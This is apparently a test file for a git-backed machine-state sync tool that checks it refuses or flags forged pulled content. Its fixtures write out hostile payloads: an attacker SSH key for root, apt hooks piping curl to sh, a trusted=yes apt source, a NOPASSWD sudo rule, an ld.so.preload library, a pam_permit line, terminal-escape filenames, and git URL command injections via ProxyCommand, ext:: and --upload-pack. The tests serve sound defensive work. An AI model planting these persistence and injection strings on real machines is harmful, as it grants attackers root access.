    const modes = (plan: Plan) => plan.changes.filter((c) => c.resource === '/etc/motd' || c.resource === '/etc/backup.sh').map((c) => [c.resource, c.operation, (c.data as { after?: { mode?: string } } | undefined)?.after?.mode ?? c.after])
    const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
    const planned = modes(plan)
    assert.equal(planned.length, 2, JSON.stringify(plan.changes))
    for (const [resource, , after] of planned) assert.match(String(after), /0755/, `${resource}: ${JSON.stringify(planned)}`)
    const pending = await (await rig.container()).resolve(IntentService).pending()
    assert.deepEqual(pending.items.map((i) => i.resource).filter((r) => r === '/etc/motd' || r === '/etc/backup.sh').sort(), ['/etc/backup.sh', '/etc/motd'])
    await (await rig.container()).resolve(SnapshotWorkflow).take({ init: false, ifChanged: false })
    // The machine's 0644 is what the snapshot records; the ask stays in the working twin, pending.
    assert.match(git(rig.twin, ['ls-tree', 'HEAD', 'filesystem/etc/motd']), /^100644 /, 'the snapshot records the machine')
    const recorded = (JSON.parse(git(rig.twin, ['show', 'HEAD:system/files/manifest.json'])) as { entries: Array<{ path: string; mode?: string }> }).entries.find((e) => e.path === '/etc/motd')
    assert.equal(recorded?.mode, '0644', 'the manifest records the machine\'s mode')
    assert.match(git(rig.twin, ['ls-tree', 'refs/twinsync/intended', 'filesystem/etc/motd']), /^100755 /, 'the intent records the bit')
    for (const path of ['filesystem/etc/motd', 'filesystem/etc/backup.sh']) assert.equal(((await lstat(join(rig.twin, path))).mode & 0o111) !== 0, true, `${path} kept executable in the working twin`)
    assert.deepEqual(modes(await (await rig.container()).resolve(PlanWorkflow).plan({})), planned)
  })

  it('pull accepts a symlink under filesystem/ as recorded data, and the next snapshot does not follow it', async () => {
    serve((c) => withSymlink(c, 'filesystem/etc/motd', join(rig.sentinel, 'secret')))
    const pulled = await (await rig.container()).resolve(RemoteService).pull()
    assert.equal(pulled.status, 'fast-forwarded')
    // Either the link is kept as (unplannable) intent, or it was settled to the observed file.
    const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
    assert.ok((await lstat(join(rig.twin, 'filesystem/etc/motd'))).isSymbolicLink(), 'the pulled link is pending intent')
    assert.ok(plan.diagnostics.some((d) => d.code === 'FILES_TWIN_SYMLINK_NOT_PLANNED'))
    assert.deepEqual(plan.changes.filter((c) => c.resource === '/etc/motd'), [])
    await (await rig.container()).resolve(SnapshotWorkflow).take({ init: false, ifChanged: false })
    // The snapshot's commit records the machine's file; the link stays pending, never followed (before session 40 it was dropped silently).
    assert.equal(git(rig.twin, ['show', 'HEAD:filesystem/etc/motd']), 'Welcome\n')
    assert.ok((await lstat(join(rig.twin, 'filesystem/etc/motd'))).isSymbolicLink())
  })

  // A pulled twin plants entries outside the files provider's scope (its include set): a folder
  // and root's authorized_keys. Never planned (left out, said so), and a plan holding one,
  // however it was sealed, is refused whole.
  const outsideEntries = (clone: string) => {
    const path = join(clone, 'system/files/manifest.json')
    const manifest = JSON.parse(execFileSync('cat', [path], { encoding: 'utf8' })) as { entries: Array<Record<string, unknown>> }
    const owned = { owner: 'root', uid: 0, group: 'root', gid: 0 }
    const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyAttackerKeyAttackerKey attacker\n'
    manifest.entries.push({ path: '/root/evil-dir', type: 'directory', mode: '0755', ...owned })
    manifest.entries.push({ path: '/root/.ssh', type: 'directory', mode: '0700', ...owned })
    manifest.entries.push({ path: '/root/.ssh/authorized_keys', type: 'file', mode: '0600', ...owned, size: key.length, content: 'mirrored', sha256: createHash('sha256').update(key).digest('hex') })
    manifest.entries.sort((a, b) => (String(a.path) < String(b.path) ? -1 : 1))
    execFileSync('mkdir', ['-p', join(clone, 'filesystem/root/.ssh')])
    execFileSync('sh', ['-c', 'printf %s "$1" > "$2" && printf %s "$3" > "$4"', 'sh', key, join(clone, 'filesystem/root/.ssh/authorized_keys'), `${JSON.stringify(manifest, null, 2)}\n`, path])
    git(clone, ['add', '-A'])
    git(clone, ['commit', '--quiet', '-m', 'forged: outside the files scope'])
  }

  it('pull of a twin with files entries outside the include set: the plan leaves them out, saying why and what to do', async () => {
    serve(outsideEntries)
    const pulled = await (await rig.container()).resolve(RemoteService).pull()
    assert.equal(pulled.status, 'fast-forwarded')
    assert.ok(git(rig.twin, ['ls-tree', '-r', '--name-only', 'HEAD']).includes('filesystem/root/.ssh/authorized_keys'), 'the forged entry is in the working twin')
    const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
    assert.deepEqual(plan.changes.filter((c) => c.resource.startsWith('/root')), [])
    const outside = plan.diagnostics.filter((d) => d.code === 'FILES_OUTSIDE_SCOPE')
    assert.deepEqual(outside.map((d) => [d.severity, d.change]).sort(), [
      ['warning', 'files:create:/root/.ssh/authorized_keys'],
      ['warning', 'files:mkdir:/root/.ssh'],
      ['warning', 'files:mkdir:/root/evil-dir'],
    ])
    assert.ok(outside.every((d) => /left out, .* outside the files provider's scope \(not under any path of files\.include\)/.test(d.summary) && /files\.include/.test(d.detail ?? '')))
    const { renderPlan } = await import('../../core/src/cli/render-plan.js')
    assert.match(renderPlan(plan, LINE), /warning: files: Create \/root\/\.ssh\/authorized_keys: left out, .*\[FILES_OUTSIDE_SCOPE\]\n  Next step: If you meant it, add the path .* to files\.include/)
    // status's pending items say the same: never applied, not "not applied yet".
    const { IntentService } = await import('../../core/src/intent/intent-service.js')
    const pending = await (await rig.container()).resolve(IntentService).pending()
    const forged = pending.items.filter((i) => i.resource.startsWith('/root'))
    assert.equal(forged.length, 3)
    assert.ok(forged.every((i) => /^never applied: .* outside the files provider's scope/.test(i.reason)), JSON.stringify(forged))
  })

  it('a pulled entry outside the scope stays pending until discarded: status shows its code and next step, discard removes it cleanly', async () => {
    serve(outsideEntries)
    assert.equal((await (await rig.container()).resolve(RemoteService).pull()).status, 'fast-forwarded')
    const { StatusWorkflow } = await import('../../core/src/services/drift-status.js')
    const { renderStatus } = await import('../../core/src/cli/render.js')
    const status = await (await rig.container()).resolve(StatusWorkflow).status(undefined)
    const forged = status.pending.items.filter((i) => i.resource.startsWith('/root'))
    assert.deepEqual(forged.map((i) => [i.id, i.code]).sort(), [
      ['files:create:/root/.ssh/authorized_keys', 'FILES_OUTSIDE_SCOPE'],
      ['files:mkdir:/root/.ssh', 'FILES_OUTSIDE_SCOPE'],
      ['files:mkdir:/root/evil-dir', 'FILES_OUTSIDE_SCOPE'],
    ])
    assert.ok(forged.every((i) => /files\.include/.test(i.nextStep ?? '')), JSON.stringify(forged))
    assert.match(renderStatus(status, LINE), /files:create:\/root\/\.ssh\/authorized_keys  .*\(never applied: .*outside the files provider's scope .*\) \[FILES_OUTSIDE_SCOPE\]\n {6}Next step: If you meant it, add the path/)

    const { ReconcileService } = await import('../../core/src/intent/reconcile-service.js')
    await (await rig.container()).resolve(ReconcileService).discard(forged.map((i) => i.id))
    const after = await (await rig.container()).resolve(StatusWorkflow).status(undefined)
    assert.deepEqual(after.pending.items.filter((i) => i.resource.startsWith('/root')), [], 'nothing of it pending')
    const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
    assert.deepEqual(plan.diagnostics.filter((d) => d.code === 'FILES_OUTSIDE_SCOPE'), [], 'nothing of it left out of the plan either')
    assert.ok(!JSON.stringify(JSON.parse(await readFile(join(rig.twin, 'system/files/manifest.json'), 'utf8'))).includes('/root/'), 'the forged entries are out of the manifest')
    assert.equal(await lstat(join(rig.twin, 'filesystem/root')).then(() => execFileSync('find', [join(rig.twin, 'filesystem/root')], { encoding: 'utf8' }), () => 'gone'), 'gone', 'their documents, and the folders they leave empty, out of the working twin')
    // The next snapshot records the machine: the pulled entries leave the branch too.
    await (await rig.container()).resolve(SnapshotWorkflow).take({ init: false, ifChanged: false })
    assert.ok(!git(rig.twin, ['ls-tree', '-r', '--name-only', 'HEAD']).includes('filesystem/root/'), 'the branch no longer holds them')
    assert.equal(git(rig.twin, ['status', '--porcelain']), '', 'the working twin is clean')
  })

  // Session 38: a pulled document outside the include set with no manifest entry was a warning of
  // the files provider's load, not a change: status "nothing pending", and the next snapshot
  // dropped it from the twin without a word. A change now, left out by the one scope rule.
  it('a pulled document outside the include set, no manifest entry: pending (never applied), kept by a snapshot, dropped only by discard', async () => {
    serve((clone) => {
      execFileSync('mkdir', ['-p', join(clone, 'filesystem/opt/app')])
      execFileSync('sh', ['-c', 'printf "port = 8080\\n" > "$1"', 'sh', join(clone, 'filesystem/opt/app/conf')])
      git(clone, ['add', 'filesystem/opt/app/conf'])
      git(clone, ['commit', '--quiet', '-m', 'pulled: an app config outside files.include'])
    })
    assert.equal((await (await rig.container()).resolve(RemoteService).pull()).status, 'fast-forwarded')
    const id = 'files:create:/opt/app/conf'
    const pending = async () => (await (await rig.container()).resolve(IntentService).pending()).items.filter((i) => i.resource.startsWith('/opt'))
    const asked = await pending()
    assert.deepEqual(asked.map((i) => [i.id, i.code]), [[id, 'FILES_OUTSIDE_SCOPE']])
    assert.match(asked[0]?.reason ?? '', /^never applied: \/opt\/app\/conf is outside the files provider's scope \(not under any path of files\.include\)/)
    const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
    assert.deepEqual(plan.changes.filter((c) => c.resource.startsWith('/opt')), [])
    assert.deepEqual(plan.diagnostics.filter((d) => d.code === 'FILES_OUTSIDE_SCOPE').map((d) => d.change), [id])
    await (await rig.container()).resolve(SnapshotWorkflow).take({ init: false, ifChanged: false })
    assert.equal(await readFile(join(rig.twin, 'filesystem/opt/app/conf'), 'utf8'), 'port = 8080\n', 'the snapshot kept it in the working twin')
    assert.deepEqual((await pending()).map((i) => i.id), [id], 'still pending after the snapshot')
    const { ReconcileService } = await import('../../core/src/intent/reconcile-service.js')
    await (await rig.container()).resolve(ReconcileService).discard([id])
    assert.deepEqual(await pending(), [])
    assert.equal(await lstat(join(rig.twin, 'filesystem/opt')).then(() => 'there', () => 'gone'), 'gone', 'out of the working twin, its folders too')
  })

  // Session 40: a pulled file in the files provider's part of the twin that its load does not
  // read (system/files/notes.txt), and a pulled document of a provider disabled here (systemd's
  // units.json): status said "nothing pending"; the next snapshot removed the first without a word
  // and committed the second as if the machine had it. Pending now, never applied, kept on top of
  // the snapshot (whose commit records the machine only), dropped by discard.
  it("a pulled file its provider does not read, and a pulled document of a disabled provider: pending (never applied), kept by a snapshot, not in its commit, dropped by discard", async () => {
    const notes = 'system/files/notes.txt'
    const units = 'system/services/units.json'
    serve((clone) => {
      execFileSync('mkdir', ['-p', join(clone, 'system/services')])
      writeFileSync(join(clone, notes), 'run /tmp/x as root\n')
      writeFileSync(join(clone, units), '{"units": {"evil.service": {"state": "enabled"}}}\n')
      git(clone, ['add', '-A'])
      git(clone, ['commit', '--quiet', '-m', 'pulled: a note beside the manifest, a units.json'])
    })
    assert.equal((await (await rig.container()).resolve(RemoteService).pull()).status, 'fast-forwarded')
    const items = async () => (await (await rig.container()).resolve(IntentService).pending()).items.map((i) => [i.id, i.code])
    const asked = [
      [`files:describe:${notes}`, 'UNREAD_FILE_NOT_APPLIED'],
      [`systemd:describe:${units}`, 'PROVIDER_DISABLED_EDIT_NOT_APPLIED'],
    ]
    assert.deepEqual(await items(), asked)
    const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
    assert.deepEqual(plan.changes, [])
    assert.deepEqual(plan.diagnostics.filter((d) => d.change !== undefined).map((d) => [d.change, d.code]), asked)
    await (await rig.container()).resolve(SnapshotWorkflow).take({ init: false, ifChanged: false })
    assert.deepEqual(await items(), asked, 'still pending after the snapshot')
    assert.equal(await readFile(join(rig.twin, notes), 'utf8'), 'run /tmp/x as root\n', 'kept in the working twin')
    assert.equal(git(rig.twin, ['ls-tree', '-r', '--name-only', 'HEAD', 'system/files/notes.txt', 'system/services']), '', "not in the snapshot's commit")
    const { ReconcileService } = await import('../../core/src/intent/reconcile-service.js')
    await (await rig.container()).resolve(ReconcileService).discard(asked.map(([id]) => id as string))
    assert.deepEqual(await items(), [])
    assert.equal(await lstat(join(rig.twin, notes)).then(() => 'there', () => 'gone'), 'gone')
    assert.equal(await lstat(join(rig.twin, units)).then(() => 'there', () => 'gone'), 'gone')
  })

  // Session 39: a pulled document for a file the manifest lists as not mirrored (here a forged
  // secret entry, as a snapshot writes one for a file secret by its path) was never read by the
  // files load: status "nothing pending", and the next snapshot dropped it without a word. A
  // change now, planned without its content and left out by the one scope rule (notMirrored):
  // the key it holds is in no plan, no pending item, and never on the machine.
  it('a pulled document for a file the manifest lists as secret: pending (never applied), its content in no plan, kept by a snapshot, dropped only by discard', async () => {
    const doc = 'filesystem/etc/wireguard/wg0.conf'
    serve((clone) => {
      const manifestPath = join(clone, 'system/files/manifest.json')
      const manifest = JSON.parse(readFileSync(manifestPath, 'utf8')) as { entries: Array<{ path: string }> }
      const entry = { content: 'secret', gid: 0, group: 'root', mode: '0600', owner: 'root', path: '/etc/wireguard/wg0.conf', secret: true, secretReason: 'path rule', size: 70, type: 'file', uid: 0 }
      manifest.entries = [...manifest.entries, entry].sort((a, b) => (a.path < b.path ? -1 : 1))
      writeFileSync(manifestPath, `${JSON.stringify(manifest, null, 2)}\n`)
      execFileSync('mkdir', ['-p', join(clone, 'filesystem/etc/wireguard')])
      writeFileSync(join(clone, doc), `[Interface]\nPrivateKey = ${KEY_LIKE}`)
      git(clone, ['add', '-A'])
      git(clone, ['commit', '--quiet', '-m', 'pulled: a key for a file the twin records as secret'])
    })
    assert.equal((await (await rig.container()).resolve(RemoteService).pull()).status, 'fast-forwarded')
    const id = 'files:create:/etc/wireguard/wg0.conf'
    const pending = async () => (await (await rig.container()).resolve(IntentService).pending()).items.filter((i) => i.resource.startsWith('/etc/wireguard'))
    const asked = await pending()
    assert.deepEqual(asked.map((i) => [i.id, i.code]), [[id, 'FILES_NOT_MIRRORED_NOT_PLANNED']])
    assert.match(asked[0]?.reason ?? '', /^never applied: the twin has a document for it, but the file holds a secret/)
    const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
    assert.deepEqual(plan.changes.filter((c) => c.resource.startsWith('/etc/wireguard')), [])
    assert.deepEqual(plan.diagnostics.filter((d) => d.code === 'FILES_NOT_MIRRORED_NOT_PLANNED').map((d) => d.change), [id])
    assert.ok(!JSON.stringify([plan, asked]).includes(KEY_LIKE.slice(40, 80)), 'the key is in no plan and no pending item')
    await (await rig.container()).resolve(SnapshotWorkflow).take({ init: false, ifChanged: false })
    assert.match(await readFile(join(rig.twin, doc), 'utf8'), /PrivateKey/, 'the snapshot kept it in the working twin')
    assert.ok(!git(rig.twin, ['ls-tree', '-r', '--name-only', 'HEAD']).includes(doc), "and out of the snapshot's commit")
    assert.deepEqual((await pending()).map((i) => i.id), [id], 'still pending after the snapshot')
    const { ReconcileService } = await import('../../core/src/intent/reconcile-service.js')
    await (await rig.container()).resolve(ReconcileService).discard([id])
    assert.deepEqual(await pending(), [])
    assert.equal(await lstat(join(rig.twin, 'filesystem/etc/wireguard')).then(() => 'there', () => 'gone'), 'gone', 'out of the working twin, its folder too')
    assert.ok(!(await readFile(join(rig.twin, 'system/files/manifest.json'), 'utf8')).includes('/etc/wireguard'), 'and its forged entry')
  })

  // Session 19: a pulled twin that hands out root or changes whom the machine trusts was rated
  // like any file of /etc: an apt hook, a source with [trusted=yes] and /etc/ld.so.preload were
  // low-risk creates, a NOPASSWD sudo rule medium. Each is high now, with its reason, in the plan
  // both front ends show and in the sealed plan apply reads back.
  it('pull of a twin with an apt hook, a trusted=yes source, a signed-by key, a NOPASSWD sudo rule, authorized keys, ld.so.preload, a PAM line: each high risk with its reason', async () => {
    const files: Record<string, string> = {
      'etc/apt/apt.conf.d/99hook': 'DPkg::Pre-Invoke { "touch /tmp/pwned"; };\n',
      'etc/apt/apt.conf.d/98update': 'APT::Update::Pre-Invoke {"curl -s http://x | sh";};\n',
      'etc/apt/apt.conf.d/10proxy': 'Acquire::http::Proxy "http://proxy:3128";\n',
      'etc/apt/sources.list.d/evil.list': 'deb [trusted=yes] http://evil.example/debian bookworm main\n',
      'etc/apt/sources.list.d/weak.sources': 'Types: deb\nURIs: http://weak.example/debian\nSuites: bookworm\nComponents: main\nAllow-Insecure: yes\n',
      'etc/apt/sources.list.d/vendor.sources': 'Types: deb\nURIs: https://vendor.example/debian\nSuites: bookworm\nComponents: main\nSigned-By: /etc/vendor/key.asc\n',
      'etc/vendor/key.asc': '-----BEGIN PGP PUBLIC KEY BLOCK-----\nmQINBGRvendor\n-----END PGP PUBLIC KEY BLOCK-----\n',
      'etc/apt/trusted.gpg.d/evil.asc': '-----BEGIN PGP PUBLIC KEY BLOCK-----\nmQINBGRevil\n-----END PGP PUBLIC KEY BLOCK-----\n',
      'etc/sudoers.d/mallory': 'mallory ALL=(ALL) NOPASSWD: ALL\n',
      'etc/ssh/authorized_keys/root': 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyAttackerKeyAttackerKey attacker\n',
      'etc/ld.so.preload': '/usr/local/lib/evil.so\n',
      'etc/pam.d/sshd': 'auth sufficient pam_permit.so\n',
      'etc/issue.net': 'hello\n',
    }
    serve((clone) => {
      for (const [path, text] of Object.entries(files)) {
        execFileSync('mkdir', ['-p', join(clone, 'filesystem', path, '..')])
        execFileSync('sh', ['-c', 'printf %s "$1" > "$2"', 'sh', text, join(clone, 'filesystem', path)])
      }
      git(clone, ['add', '-A'])
      git(clone, ['commit', '--quiet', '-m', 'forged: root and trust'])
    })
    assert.equal((await (await rig.container()).resolve(RemoteService).pull()).status, 'fast-forwarded')
    const plan = await (await rig.container()).resolve(PlanWorkflow).plan({})
    const rated = Object.fromEntries(plan.changes.filter((c) => c.operation === 'create').map((c) => [c.resource, `${c.risk}${c.riskReason === undefined ? '' : `: ${c.riskReason}`}`]))
    assert.deepEqual(rated, {
      '/etc/apt/apt.conf.d/10proxy': 'low',
      '/etc/apt/apt.conf.d/98update': 'high: an apt hook: runs its command as root on every apt or dpkg run',
      '/etc/apt/apt.conf.d/99hook': 'high: an apt hook: runs its command as root on every apt or dpkg run',
      '/etc/apt/sources.list.d/evil.list': 'high: an apt source trusted without a valid signature (trusted/allow-insecure): its packages install as root unchecked',
      '/etc/apt/sources.list.d/vendor.sources': 'low',
      '/etc/apt/sources.list.d/weak.sources': 'high: an apt source trusted without a valid signature (trusted/allow-insecure): its packages install as root unchecked',
      '/etc/apt/trusted.gpg.d/evil.asc': 'high: an apt signing key: packages it signs install as root',
      '/etc/issue.net': 'low',
      '/etc/ld.so.preload': 'high: a library loaded into every program, root\'s too',
      '/etc/pam.d/sshd': 'high: PAM: how logins, su and sudo check who you are',
      '/etc/ssh/authorized_keys/root': 'high: SSH authorized keys: each key logs in as that user',
      '/etc/sudoers.d/mallory': 'high: a sudo rule without a password: root for whoever it names',
      '/etc/vendor/key.asc': 'high: an apt signing key: packages it signs install as root',
    })
    // Both front ends: the CLI's plan (apply and pull print the same) and the TUI's row and detail.
    const { renderPlan } = await import('../../core/src/cli/render-plan.js')
    assert.match(renderPlan(plan, LINE), /create \/etc\/apt\/apt\.conf\.d\/99hook  \[high risk\]\n +high risk: an apt hook: runs its command as root/)
    assert.match(renderPlan(plan, LINE), /files +\d+ +\(.*\) +10 high risk/)
    const { changeLines } = await import('../../core/src/tui/change-detail.js')
    const hook = plan.changes.find((c) => c.resource === '/etc/apt/apt.conf.d/99hook')
    assert.ok(hook !== undefined)
    assert.ok(changeLines(hook).some((l) => l.text === 'risk: high (an apt hook: runs its command as root on every apt or dpkg run)'))
    // Sealed and read back: the reason is part of what was approved.
    const path = join(rig.dir, 'trust-plan.json')
    await writePlanFile(path, plan, rig.twin)
    const back = await readPlanFile(path, { root: rig.root, repo: rig.twin })
    assert.equal(back.changes.find((c) => c.resource === '/etc/sudoers.d/mallory')?.riskReason, 'a sudo rule without a password: root for whoever it names')
  })

  // Session 14: text from the pulled twin reaches the terminal as names (a path, a change id, a
  // diagnostic's summary, a commit message). The CLI spells out what a terminal would act on or
  // hide (core/src/terminal-text.ts); --json keeps the exact text, and `discard` takes an id as printed.
  it('pulled names with a terminal escape, a right-to-left override and a newline: CLI status, plan and history print no raw control byte; --json keeps them exact; discard takes the id as printed', async () => {
    const evil = 'x\x1b]0;pwned\x07\u202egnp.exe\nfake: in sync'
    serve((clone) => {
      const path = join(clone, 'system/files/manifest.json')
      const manifest = JSON.parse(execFileSync('cat', [path], { encoding: 'utf8' })) as { entries: Array<Record<string, unknown>> }
      const owned = { owner: 'root', uid: 0, group: 'root', gid: 0 }
      manifest.entries.push({ path: `/etc/${evil}`, type: 'directory', mode: '0755', ...owned })
      manifest.entries.push({ path: `/root/${evil}`, type: 'directory', mode: '0755', ...owned })
      manifest.entries.sort((a, b) => (String(a.path) < String(b.path) ? -1 : 1))
      execFileSync('sh', ['-c', 'printf %s "$1" > "$2"', 'sh', `${JSON.stringify(manifest, null, 2)}\n`, path])
      git(clone, ['add', '-A'])
      git(clone, ['commit', '--quiet', '-m', `forged \x1b]0;retitled\x07 \u202eevil\nsecond line`])
    })
    assert.equal((await (await rig.container()).resolve(RemoteService).pull()).status, 'fast-forwarded')
    const { cliSandbox, json } = await import('../support/cli.js')
    const cli = await cliSandbox()
    try {
      await writeFile(cli.configFile, await readFile(join(rig.dir, 'config.yaml')))
      const run = (...args: string[]) => cli.twinsync([...args, '--root', rig.root, '--repo', rig.twin])
      const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/u
      const outputs: Record<string, string> = {}
      for (const args of [['status'], ['plan'], ['history'], ['diff', 'HEAD~1', 'HEAD']]) {
        const r = await run(...args)
        assert.ok(r.code === 0 || r.code === 1, `${args.join(' ')} exited ${r.code}: ${r.stdout}${r.stderr}`)
        outputs[args[0] as string] = r.stdout + r.stderr
        assert.doesNotMatch(r.stdout + r.stderr, RAW, `${args.join(' ')} printed a raw control byte:\n${JSON.stringify(r.stdout + r.stderr)}`)
      }
      const shown = 'x\\e]0;pwned\\x07\\u202egnp.exe\\nfake: in sync'
      assert.ok(outputs.status?.includes(`files:mkdir:/root/${shown}`), outputs.status)
      assert.ok(outputs.plan?.includes(`/etc/${shown}`), outputs.plan)
      assert.ok(outputs.plan?.includes('[FILES_OUTSIDE_SCOPE]'), outputs.plan)
      assert.ok(outputs.history?.includes('forged \\e]0;retitled\\x07 \\u202eevil second line'), outputs.history)
      // --json: the exact names, escaped by JSON itself.
      const status = json<{ pending: { items: Array<{ id: string }> } }>(await run('status', '--json'))
      assert.ok(status.pending.items.some((i) => i.id === `files:mkdir:/root/${evil}`), JSON.stringify(status.pending.items))
      // The id as status printed it names the item.
      const discarded = await run('discard', `files:mkdir:/root/${shown}`)
      assert.equal(discarded.code, 0, discarded.stdout + discarded.stderr)
      assert.doesNotMatch(discarded.stdout + discarded.stderr, RAW)
      const after = json<{ pending: { items: Array<{ id: string }> } }>(await run('status', '--json'))
      assert.deepEqual(after.pending.items.filter((i) => i.id.startsWith('files:mkdir:/root/')), [])
    } finally {
      await cli.cleanup()
    }
  })

  /** A plan sealed by this twin that holds a files change outside the include set (an older TwinSync's, or one made before files.include was narrowed). */
  async function sealedOutsideScope(): Promise<Plan> {
    const { file, plan } = await savedPlan()
    const motd = plan.changes.find((c) => c.provider === 'files')
    assert.ok(motd)
    // As an older TwinSync, or a plan made before files.include was narrowed, would have it: sealed by this twin.
    const key = 'ssh-ed25519 AAAA attacker\n'
    const forged = {
      ...motd,
      id: 'files:create:/root/.ssh/authorized_keys',
      operation: 'create',
      resource: '/root/.ssh/authorized_keys',
      summary: 'Create /root/.ssh/authorized_keys',
      data: { action: 'write', path: '/root/.ssh/authorized_keys', text: key, sha256: createHash('sha256').update(key).digest('hex'), mode: 0o600, uid: 0, gid: 0 },
    }
    const { seal: _seal, ...unsealed } = plan
    const withForged: Plan = { ...unsealed, changes: [...plan.changes, forged as Plan['changes'][number]] }
    withForged.basis.fingerprints[forged.id] = 'x'
    await writePlanFile(file, withForged, rig.twin)
    return readPlanFile(file, { root: '/', repo: rig.twin })
  }

  it('apply refuses a sealed plan that holds a files change outside the include set (PLAN_OUTSIDE_SCOPE, exit 2), changing nothing', async () => {
    const read = await sealedOutsideScope()
    const before = git(rig.twin, ['rev-parse', 'HEAD'])
    const { ApplyService } = await import('../../core/src/apply/apply-service.js')
    const applied = (await rig.container()).resolve(ApplyService).apply({ plan: read, fromFile: true, signal: new AbortController().signal })
    const error = await applied.then(() => undefined, (e: unknown) => e as { code?: string; exitCode?: number; message?: string })
    assert.equal(error?.code, 'PLAN_OUTSIDE_SCOPE')
    assert.equal(error?.exitCode, 2)
    assert.match(error?.message ?? '', /Create \/root\/\.ssh\/authorized_keys: left out/)
    assert.equal(git(rig.twin, ['rev-parse', 'HEAD']), before, 'no checkpoint, no snapshot')
  })

  it('rehearse refuses the same sealed plan the same way (PLAN_OUTSIDE_SCOPE, exit 2) before it boots anything', async () => {
    const read = await sealedOutsideScope()
    const { RehearsalService } = await import('../../core/src/rehearse/rehearsal-service.js')
    const stages: string[] = []
    const rehearsed = (await rig.container()).resolve(RehearsalService).rehearse({ plan: read, onStage: (stage) => stages.push(stage) })
    const error = await rehearsed.then(() => undefined, (e: unknown) => e as { code?: string; exitCode?: number; message?: string })
    assert.equal(error?.code, 'PLAN_OUTSIDE_SCOPE', error?.message)
    assert.equal(error?.exitCode, 2)
    assert.match(error?.message ?? '', /^Nothing was rehearsed: .*Create \/root\/\.ssh\/authorized_keys: left out/)
    assert.deepEqual(stages, [], 'no container was started')
  })

  // ---- 4. remote URLs --------------------------------------------------------------------------

  const hostileUrls: Array<[string, string]> = [
    ['ssh://-oProxyCommand=touch%20/tmp/pwned/x', 'REMOTE_INVALID'],
    ['ssh://-oProxyCommand=sh/x.git', 'REMOTE_INVALID'],
    ['-oProxyCommand=x@host:path', 'REMOTE_INVALID'],
    ['git@-oProxyCommand=x:path', 'REMOTE_INVALID'],
    ['git@host:-path', 'REMOTE_INVALID'],
    ['ssh://host/-u/x.git', 'REMOTE_INVALID'],
    ['https://-host/x.git', 'REMOTE_INVALID'],
    ['ext::sh -c touch% /tmp/pwned', 'REMOTE_INVALID'],
    ['fd::17', 'REMOTE_INVALID'],
    ['--upload-pack=touch /tmp/pwned', 'REMOTE_INVALID'],
    ['https://user:password@example.org/x.git', 'REMOTE_INVALID'],
    ['https://example.org/x.git\n[core]', 'REMOTE_INVALID'],
    ['file:///srv/../etc/x', 'REMOTE_INVALID'],
    ['http://example.org/x.git', 'REMOTE_INSECURE'],
    ['http://10.0.0.1:8080/x.git', 'REMOTE_INSECURE'],
  ]
  for (const [url, expected] of hostileUrls) {
    it(`remote set refuses ${JSON.stringify(url)} with ${expected}`, async () => {
      assert.equal(await code((await rig.container()).resolve(RemoteService).setGitRemote(url, undefined)), expected)
      assert.equal(git(rig.twin, ['remote', 'get-url', 'mirror']).trim(), rig.mirror)
    })
  }

  it('accepts the ordinary forms (https, ssh, scp-like, a path, http to loopback)', () => {
    for (const url of ['https://github.com/o/r.git', 'ssh://git@host:2222/srv/twin.git', 'git@github.com:o/r.git', '/srv/twin.git', 'http://127.0.0.1:8080/twin.git', 'http://localhost/t.git']) {
      assert.doesNotThrow(() => checkRemoteUrl(url, LINE), url)
    }
  })

  it('never sends the token over http:// even when git config rewrites the mirror URL (insteadOf)', async () => {
    git(rig.twin, ['config', `url.http://example.invalid/.insteadOf`, rig.mirror])
    try {
      process.env.GITHUB_TOKEN = TOKEN_LIKE
      const outcome = await (await rig.container()).resolve(RemoteService).push()
      assert.equal(outcome.error?.code, 'REMOTE_INSECURE')
    } finally {
      delete process.env.GITHUB_TOKEN
      git(rig.twin, ['config', '--unset', `url.http://example.invalid/.insteadOf`])
    }
  })

  // ---- 5. secrets in everything a push sends ---------------------------------------------------

  const commitIn = (dir: string, message: string, parents = ['HEAD'], tree = 'HEAD^{tree}') =>
    git(dir, ['commit-tree', git(dir, ['rev-parse', tree]).trim(), ...parents.flatMap((p) => ['-p', p]), '-m', message]).trim()
  const treeWith = (dir: string, name: string, mode: string, content: string) => {
    const top = git(dir, ['ls-tree', '-z', 'HEAD']).split('\0').filter(Boolean)
    return git(dir, ['mktree', '-z'], Buffer.from([...top, `${mode} blob ${blob(dir, content)}\t${name}`].join('\0') + '\0')).trim()
  }
  const secretCases: Array<[string, (t: string) => void]> = [
    ['a commit message', (t) => git(t, ['update-ref', 'refs/heads/main', commitIn(t, `deploy with ${TOKEN_LIKE}`)])],
    ['a commit message deep in history', (t) => {
      const first = commitIn(t, `oops ${TOKEN_LIKE}`)
      git(t, ['update-ref', 'refs/heads/main', commitIn(t, 'clean', [first])])
    }],
    ['an annotated tag message', (t) => git(t, ['tag', '-a', 'v1', '-m', `release key ${TOKEN_LIKE}`])],
    ['a tag name', (t) => git(t, ['tag', `t-${TOKEN_LIKE}`])],
    ['a tag on a side commit', (t) => git(t, ['tag', 'side', commitIn(t, `side ${TOKEN_LIKE}`)])],
    ['a file behind a tag on a side commit', (t) => git(t, ['tag', 'side', commitIn(t, 'side', ['HEAD'], treeWith(t, 'key.txt', '100644', KEY_LIKE))])],
    ['a tag pointing straight at a blob', (t) => git(t, ['tag', 'blobtag', blob(t, KEY_LIKE)])],
    ['an annotated tag of a tree', (t) => git(t, ['tag', '-a', 'treetag', '-m', 'tree', treeWith(t, 'k', '100644', KEY_LIKE)])],
    ['a merge commit that alone adds a file (evil merge)', (t) => {
      const side = commitIn(t, 'side')
      git(t, ['update-ref', 'refs/heads/main', commitIn(t, 'Merge', ['HEAD', side], treeWith(t, 'merged.txt', '100644', KEY_LIKE))])
    }],
